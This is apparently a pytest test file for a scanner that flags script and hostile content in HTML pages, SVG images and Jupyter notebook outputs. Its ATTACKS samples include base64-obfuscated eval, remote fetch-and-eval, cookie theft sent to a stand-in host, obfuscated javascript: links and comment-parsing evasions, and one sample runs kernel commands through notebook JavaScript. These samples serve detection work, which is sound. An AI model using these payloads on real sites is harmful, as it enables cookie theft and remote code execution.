import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ringfence.artifacts.formats import web_page
from ringfence.artifacts.judging import judging_budget
from ringfence.artifacts.problems import Malformed
from ringfence.artifacts.reader import Reader
from ringfence.core.verdicts import Verdict
from zip_judging import checks, judged

_SVG = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{}</svg>'


def _notebook(**data: Any) -> bytes:
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    cell = {"cell_type": "code", "source": "1 + 1", "outputs": [output], "metadata": {}}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.svg", _SVG.format('<path d="M 0 0"/><use xlink:href="#glyph"/>')),
        ("a.svg", _SVG.format('<image href="data:image/png;base64,iVBORw0KGgo="/>')),
        (
            "card.html",
            "<!DOCTYPE html><html><head><title>Card</title></head><body><p>1 &lt; 2</p></body></html>",
        ),
        (
            "card.html",
            '<html><a href="https://huggingface.co/acme">home</a><a href="javascript:void(0)">x</a>',
        ),
        ("card.html", '<html><script type="application/ld+json">{"name": "acme"}</script>'),
        ("old.html", "<html><!-- <script src='x.js'></script> --><p>no script</p>"),
        ("part.html", "<table><tr><td>0.9</td></tr></table>"),
    ],
)
def test_pages_and_pictures_without_script_are_clean(name: str, text: str) -> None:
    assert judged(text.encode(), name).judgement.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "plot.html",
            '<html><script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script><div id="p"></div>',
        ),
        ("plot.html", "<html><script>Plotly.newPlot('p', [{y: [1, 2]}])</script>"),
        (
            "lazy.html",
            "<html><script>let s = document.createElement('script'); s.src = 'https://cdn.example/x.js';</script>",
        ),
        ("flame.svg", _SVG.format("<script><![CDATA[ function init(evt) { } ]]></script>")),
        ("click.svg", _SVG.format('<rect onclick="zoom(this)"/>')),
        ("link.svg", _SVG.format('<a xlink:href="java&#10;script:zoom()"><rect/></a>')),
        ("far.svg", _SVG.format('<use href="https://far.example/x.svg#a"/>')),
        ("frame.html", '<html><iframe src="https://far.example/"></iframe>'),
    ],
)
def test_script_and_what_comes_from_elsewhere_is_told(name: str, text: str) -> None:
    assert checks(text.encode(), name) == {"page-script"}


ATTACKS = {
    "decodes": "<html><script>eval(atob('YWxlcnQoMSk='))</script>",
    "fetches and runs": "<html><script>fetch('https://x.invalid/a').then(r => r.text()).then(eval)</script>",
    "cookies": "<html><img src=x onerror=\"fetch('https://x.invalid/?' + document.cookie)\">",
    "spelled by entities": "<html><a href=\"&#106;avascript:eval(atob('eA=='))\">x</a>",
    "a tab in the scheme": "<html><a href=\"java\tscript:eval(atob('eA=='))\">x</a>",
    "a password": "<html><form action='https://x.invalid'><input name=p type=password></form>",
    "a share": "<html><img src='file://files.invalid/share/a.png'>",
    "a share of windows": "<html><img src='\\\\files.invalid\\share\\a.png'>",
    "in a picture": _SVG.format("<script>eval(atob('YWxlcnQoMSk='))</script>"),
    "in an object": _SVG.format("<foreignObject><body onload=\"eval(atob('eA=='))\"/></foreignObject>"),
    "behind a comment that ends at once": "<html><!--><script>eval(atob('eA=='))</script> -->",
    "behind a comment that ends oddly": "<html><!-- x --!><script>eval(atob('eA=='))</script> -->",
    "in upper case": "<HTML><SCRIPT>eval(atob('eA=='))</SCRIPT >",
    "never closed": "<html><script>eval(atob('eA=='))",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_no_honest_page_does_is_suspicious(text: str) -> None:
    name = "a.svg" if "<svg" in text else "a.html"
    assert judged(text.encode(), name).judgement.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_the_same_in_a_text_of_any_name_is_suspicious(text: str) -> None:
    assert judged(text.encode(), "card.txt").judgement.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_the_same_in_an_output_of_a_notebook_is_suspicious(text: str) -> None:
    kind = "image/svg+xml" if "<svg" in text else "text/html"
    for value in (text, text.splitlines(keepends=True)):
        assert judged(_notebook(**{kind: value}), "a.ipynb").judgement.verdict is Verdict.SUSPICIOUS


def test_a_script_that_runs_commands_in_the_kernel_is_suspicious() -> None:
    script = "Jupyter.notebook.kernel.execute('import os; os.system(\"true\")')"
    data = _notebook(**{"application/javascript": script})
    assert {"page-script", "script-attack"} <= checks(data, "a.ipynb")


def test_tables_and_pictures_of_a_notebook_are_not_told() -> None:
    data = _notebook(**{"text/html": "<style>td {}</style><table></table>", "text/plain": "<script>"})
    assert checks(data, "a.ipynb") == {"python-code"}


@settings(deadline=None)
@given(text=st.text("<>\"'=/! svgscriptonhe\n&#", max_size=200))
def test_any_text_ends_in_findings_or_malformed(text: str) -> None:
    data = f"<html>{text}".encode()
    try:
        list(web_page.FORMAT.judge(Reader.of_bytes(data, budget=judging_budget())))  # type: ignore[misc]
    except Malformed:
        return


def test_a_page_in_an_old_encoding_is_read() -> None:
    text = "<html><p>" + "x" * 8000 + "caf\u00e9</p><script>eval(atob('eA=='))</script>"
    assert judged(text.encode("latin-1"), "a.html").judgement.verdict is Verdict.SUSPICIOUS
